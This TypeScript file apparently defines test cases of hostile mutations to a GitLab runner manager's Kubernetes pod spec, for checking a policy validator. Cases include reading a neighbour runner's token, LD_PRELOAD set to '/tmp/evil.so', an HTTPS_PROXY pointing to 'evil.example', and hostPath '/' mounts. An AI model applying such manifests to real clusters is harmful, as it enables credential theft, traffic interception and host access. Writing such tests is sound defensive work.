import { at, listOf } from '../../facts/untyped';
import type { Body } from '../request';
import type { Attack, PodRow } from './attack';
import { added, changed } from './edit';
import { managerAttacks } from './manager-attacks';

/** Managers that read or mount something else than their own token and config. */

const MANAGER = 'spec.containers.manager';

/** The variables of the one container of a manager. */
function variablesOf(pod: Body): readonly unknown[] {
  return listOf(at(listOf(at(pod, 'spec', 'containers'))[0], 'env'));
}

const VOLUMES: readonly (readonly [name: string, source: Body])[] = [
  ['csi', { csi: { driver: 'example.com' } }],
  ['host-path', { hostPath: { path: '/' } }],
  ['nfs', { nfs: { server: '10.0.0.1', path: '/' } }],
  ['claim', { persistentVolumeClaim: { claimName: 'data' } }],
  ['config-map', { configMap: { name: 'another' } }],
  ['projected-config-map', { projected: { sources: [{ configMap: { name: 'another' } }] } }],
];

/** What is not in the volume of a pod's own token. */
const TOKENS: readonly (readonly [id: string, words: string, source: Body])[] = [
  [
    'for-others',
    'a token for somebody else than the API server',
    { serviceAccountToken: { audience: 'vault', path: 'token', expirationSeconds: 3607n } },
  ],
  [
    'for-a-year',
    'a token of the API server for a year',
    { serviceAccountToken: { path: 'token', expirationSeconds: 31_536_000n } },
  ],
  [
    'of-another-authority',
    'another authority than that of the API server',
    { configMap: { name: 'another', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
  ],
  ['with-a-secret', 'a Secret beside its token', { secret: { name: 'another' } }],
];

const ROWS: readonly PodRow[] = [
  [
    'manager-secrets',
    'token-of-a-neighbour',
    'a manager that reads the token of another runner',
    (pod, { neighbour, runner }) =>
      added(pod, `${MANAGER}.env`, {
        name: 'STOLEN',
        valueFrom: {
          secretKeyRef: { name: `${neighbour?.runner.name ?? `${runner.name}x`}-token`, key: 'runner-token' },
        },
      }),
    'every',
  ],
  [
    'manager-secrets',
    'variable-of-a-config-map',
    'a manager with a variable from a ConfigMap',
    (pod) =>
      added(pod, `${MANAGER}.env`, {
        name: 'LD_PRELOAD',
        valueFrom: { configMapKeyRef: { name: 'another', key: 'a' } },
      }),
  ],
  [
    'manager-secrets',
    'all-variables',
    'a manager that reads all variables of a Secret',
    (pod) => changed(pod, `${MANAGER}.envFrom`, [{ secretRef: { name: 'another' } }]),
  ],
  [
    'manager-secrets',
    'variable',
    'a manager with a variable that its libraries read',
    (pod) => added(pod, `${MANAGER}.env`, { name: 'LD_PRELOAD', value: '/tmp/evil.so' }),
  ],
  [
    'manager-secrets',
    'proxy-of-the-attacker',
    'a manager that talks to GitLab through somebody else',
    (pod) =>
      changed(pod, `${MANAGER}.env`, [
        ...variablesOf(pod).filter((variable) => at(variable, 'name') !== 'HTTPS_PROXY'),
        { name: 'HTTPS_PROXY', value: 'http://evil.example:3128' },
      ]),
  ],
  [
    'manager-secrets',
    'another-variable',
    'a manager whose only variable is one that its libraries read',
    (pod) => changed(pod, `${MANAGER}.env`, [{ name: 'LD_PRELOAD', value: '/tmp/evil.so' }]),
  ],
  [
    'manager-secrets',
    'another-variable-of-its-token',
    'a manager that has its token in another variable',
    (pod) => changed(pod, `${MANAGER}.env.RUNNER_TOKEN.name`, 'BASH_ENV'),
  ],
  [
    'manager-secrets',
    'another-key',
    'a manager whose token is another entry of its Secret',
    (pod) => changed(pod, `${MANAGER}.env.RUNNER_TOKEN.valueFrom.secretKeyRef.key`, 'another'),
  ],
  [
    'manager-secrets',
    'token-in-the-clear',
    'a manager whose token stands in the pod',
    (pod) => changed(pod, `${MANAGER}.env`, [{ name: 'RUNNER_TOKEN', value: 'glrt-evil' }]),
  ],
  [
    'manager-secrets',
    'no-token',
    'a manager without a token',
    (pod) => changed(pod, `${MANAGER}.env`, undefined),
  ],
  [
    'manager-volumes',
    'config-by-prefix',
    "a manager that mounts a ConfigMap whose name begins like that of its runner's config",
    (pod, { runner }) => changed(pod, 'spec.volumes.config.configMap.name', `${runner.name}-config-2`),
    'every',
  ],
  [
    'manager-volumes',
    'config-items',
    'a manager whose config is another entry of its ConfigMap',
    (pod) => changed(pod, 'spec.volumes.config.configMap.items', [{ key: 'other', path: 'config.toml' }]),
  ],
  [
    'manager-volumes',
    'config-optional',
    'a manager that starts without its config',
    (pod) => changed(pod, 'spec.volumes.config.configMap.optional', true),
  ],
  [
    'manager-volumes',
    'config-elsewhere',
    'a manager whose config is the volume of another mount',
    (pod, { runner }) =>
      added(pod, 'spec.volumes', { name: 'extra', configMap: { name: `${runner.name}-config` } }),
  ],
  [
    'manager-volumes',
    'empty-larger',
    'a manager with a larger volume',
    (pod) => changed(pod, 'spec.volumes.tmp.emptyDir.sizeLimit', '900Gi'),
  ],
  [
    'manager-volumes',
    'empty-unbounded',
    'a manager with a volume without bounds',
    (pod) => changed(pod, 'spec.volumes.tmp.emptyDir.sizeLimit', undefined),
  ],
  [
    'manager-volumes',
    'empty-in-memory',
    'a manager with a volume in the memory of its node',
    (pod) => changed(pod, 'spec.volumes.tmp.emptyDir.medium', 'Memory'),
  ],
  [
    'manager-volumes',
    'empty-by-another-name',
    'a manager with one more empty volume',
    (pod) => added(pod, 'spec.volumes', { name: 'extra', emptyDir: { sizeLimit: '64Mi' } }),
  ],
  ...TOKENS.map(
    ([id, words, source]): PodRow => [
      'manager-volumes',
      `token-${id}`,
      `a manager with ${words}`,
      (pod) =>
        added(pod, 'spec.volumes', { name: 'kube-api-access-extra', projected: { sources: [source] } }),
    ],
  ),
  [
    'manager-volumes',
    'volume-secret',
    'a manager that mounts a Secret',
    (pod) => added(pod, 'spec.volumes', { name: 'extra', secret: { secretName: 'another' } }),
  ],
  [
    'manager-volumes',
    'volume-projected-secret',
    'a manager that mounts a Secret among other things',
    (pod) =>
      added(pod, 'spec.volumes', {
        name: 'extra',
        projected: { sources: [{ secret: { name: 'another' } }] },
      }),
  ],
  [
    'manager-volumes',
    'config-of-a-neighbour',
    'a manager that mounts the config.toml of another runner',
    (pod, { neighbour, runner }) =>
      added(pod, 'spec.volumes', {
        name: 'extra',
        configMap: { name: `${neighbour?.runner.name ?? `${runner.name}x`}-config` },
      }),
    'every',
  ],
  ...VOLUMES.map(
    ([name, source]): PodRow => [
      'manager-volumes',
      `volume-${name}`,
      `a manager with a volume of the kind ${name.replaceAll('-', ' ')}`,
      (pod) => added(pod, 'spec.volumes', { name: 'extra', ...source }),
    ],
  ),
];
/** Attacks by whoever may write a Deployment in the namespace, by variables and volumes. */
export const ATTACKS_BY_MANAGER_VOLUMES: readonly Attack[] = managerAttacks(ROWS);
